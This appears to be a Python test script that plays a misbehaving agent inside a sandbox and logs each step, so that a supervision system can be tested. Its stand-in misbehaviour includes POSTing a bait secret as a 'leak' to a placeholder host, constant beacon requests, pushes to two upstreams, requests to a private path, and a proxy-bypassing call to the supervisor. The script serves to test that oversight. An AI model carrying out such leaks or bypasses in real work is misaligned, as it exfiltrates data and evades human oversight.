"""A scripted agent: edits, requests, a leak, commits, pushes to two upstreams, a question. It writes down what it was told.

`agent.py NAME TOLD FORGE PASSES` runs in a bottle, in a clone of the operator's repository. TOLD is a folder of the host: one
JSON object a line in NAME.jsonl, each written with one call. A thread sends requests all the while, so that one that leaves too
late is seen.
"""

import json
import os
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

NAME, TOLD, FORGE, PASSES = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
LOG = os.open(f"{TOLD}/{NAME}.jsonl", os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o666)
BAIT = Path(TOLD, "bait").read_text().strip()
WEB = "http://plain.example.com"
IDENTITY = ("-c", "user.name=Agent", "-c", "user.email=agent@example.com")
ASK = {"host": "other.example.com", "ports": [80], "scheme": "http", "methods": ["GET"], "paths": ["/"], "reason": "to try"}


def tell(step: str, **more: object) -> None:
    """One line, in one call."""
    os.write(LOG, (json.dumps({"step": step, "at": time.time(), **more}) + "\n").encode())


def fetch(path: str, *, body: bytes | None = None) -> int:
    """The status of one request; 0 when there was no answer."""
    try:
        with urllib.request.urlopen(f"{WEB}{path}", data=body, timeout=20) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        return error.code
    except OSError:
        return 0


def beacon() -> None:
    """A request every so often for as long as the bottle lives; nothing can be written when it is over."""
    number = 0
    while True:
        number += 1
        fetch(f"/beacon/{NAME}/{number}")
        time.sleep(0.02)


def git(*words: str, at: str = ".") -> "subprocess.CompletedProcess[str]":
    """Run git as the agent does."""
    return subprocess.run(("git", *IDENTITY, *words), cwd=at, capture_output=True, text=True, check=False)


def push(number: int, *, at: str, to: str, ref: str) -> None:
    """A commit of its own and its push; told before and after."""
    Path(at, f"made-{NAME}.txt").write_text(f"{number}\n")
    git("add", "--all", at=at)
    git("commit", "--quiet", "--message", f"{NAME} {to} {number}", at=at)
    commit = git("rev-parse", "HEAD", at=at).stdout.strip()
    tell("push", to=to, commit=commit)
    done = git("push", "--quiet", "origin", f"HEAD:refs/heads/{ref}", at=at)
    tell("pushed", to=to, commit=commit, taken=done.returncode == 0, words=done.stderr[-600:])


def ask() -> None:
    """Ask the operator for another host; nobody waits for the answer."""
    conf = json.loads(Path("~/.config/bot-bottle/mcp.json").expanduser().read_text())["mcpServers"]["supervise"]
    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "request_permission", "arguments": ASK}}
    headers = {**conf["headers"], "content-type": "application/json"}
    plain = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        plain.open(urllib.request.Request(conf["url"], data=json.dumps(call).encode(), headers=headers), timeout=20).close()
        tell("asked", answered=True)
    except OSError as error:
        tell("asked", answered=False, words=str(error))


def main() -> None:
    """Work."""
    tell("began")
    threading.Thread(target=beacon, daemon=True).start()
    done = git("clone", "--quiet", FORGE, "/tmp/app")
    tell("cloned", taken=done.returncode == 0, words=done.stderr[-600:])
    for number in range(PASSES):
        Path(f"edited-{NAME}-{number}.txt").write_text("edited\n")
        tell("edited")
        tell("allowed", status=fetch(f"/get/{NAME}/{number}"))
        tell("leak", status=fetch(f"/post/{NAME}/{number}", body=f"value={BAIT}".encode()))
        push(number, at=".", to="local", ref="main")
        tell("refused", status=fetch(f"/private/{NAME}/{number}"))
        push(number, at="/tmp/app", to="forge", ref="topic")
        ask()
    tell("ended")


if __name__ == "__main__":
    main()
